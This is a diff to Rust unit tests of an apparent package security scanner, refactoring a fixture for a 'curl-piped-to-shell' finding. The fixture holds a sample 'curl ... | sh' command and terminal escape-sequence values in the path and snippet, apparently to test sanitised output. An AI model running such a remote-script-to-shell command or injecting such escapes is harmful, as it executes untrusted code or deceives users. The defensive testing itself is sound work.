@@ -464,66 +464,34 @@ impl Diagnostic for FindingDiagnostic {
 mod tests {
     use super::*;
     use crate::render_json;
+    use crate::test_support::{blocked_report, curl_finding};
     use skill_scan_model::*;
 
     fn report() -> TargetReport {
-        let finding = Finding {
-            id: "f1".into(),
-            rule_id: "RCE001".into(),
-            rule_name: "curl-piped-to-shell".into(),
-            category: ThreatCategory::RemoteExec,
-            signal: SignalClass::MaliciousBehavior,
-            action: RecommendedAction::Block,
-            scope: ArtifactScope::PackageRootArtifact,
-            context: Context::Code,
-            language: Language::Shell,
-            file_kind: FileKind::Shell,
-            path: "install\u{1b}[31m.sh".into(),
-            line: 12,
-            column: 3,
-            end_line: 12,
-            end_column: 20,
-            message: "Remote script piped into a shell".into(),
-            why: "Runs whatever the server sends.".into(),
-            snippet: "  curl -s \u{1b}]8;;x\u{7}http://x | sh".into(),
-            snippet_highlight: (2, 33),
-            mitre: vec!["T1059.004".into()],
-            capabilities: vec![Capability::RemoteExec],
-            file_role: FileRole::Source,
-            import_time: false,
-            related: vec![],
-        };
-        TargetReport {
-            target: "pkg".into(),
-            kind: PackageKind::Npm,
-            verdict: VerdictLevel::Block,
-            reasons: vec![VerdictReason {
-                scope: ArtifactScope::PackageRootArtifact,
-                category: ThreatCategory::RemoteExec,
-                signal: SignalClass::MaliciousBehavior,
-                rationale: "Runs code fetched at run time".into(),
-                compound: false,
-                finding_ids: vec!["f1".into()],
-            }],
-            calibration: vec![CalibrationNote {
-                group: "remote_exec/supporting_artifact/malicious_behavior".into(),
-                from: RecommendedAction::Block,
-                to: RecommendedAction::Review,
-                reason: "found only in test files".into(),
-                finding_ids: vec!["f9".into()],
-            }],
-            package: PackageSummary::default(),
-            findings: vec![finding],
-            suppressed: vec![],
-            skipped: vec![Skipped {
-                path: "link".into(),
-                reason: "symbolic link".into(),
-            }],
-            diagnostics: vec![],
-            files_scanned: 3,
-            incomplete: None,
-            origin: None,
-        }
+        let mut finding = curl_finding(
+            "install\u{1b}[31m.sh",
+            "  curl -s \u{1b}]8;;x\u{7}http://x | sh",
+        );
+        (finding.line, finding.column) = (12, 3);
+        (finding.end_line, finding.end_column) = (12, 20);
+        finding.why = "Runs whatever the server sends.".into();
+        finding.snippet_highlight = (2, 33);
+        finding.mitre = vec!["T1059.004".into()];
+        finding.capabilities = vec![Capability::RemoteExec];
+        let mut report = blocked_report(finding, "Runs code fetched at run time");
+        report.calibration = vec![CalibrationNote {
+            group: "remote_exec/supporting_artifact/malicious_behavior".into(),
+            from: RecommendedAction::Block,
+            to: RecommendedAction::Review,
+            reason: "found only in test files".into(),
+            finding_ids: vec!["f9".into()],
+        }];
+        report.skipped = vec![Skipped {
+            path: "link".into(),
+            reason: "symbolic link".into(),
+        }];
+        report.files_scanned = 3;
+        report
     }
 
     const TOOL: ToolInfo = ToolInfo {
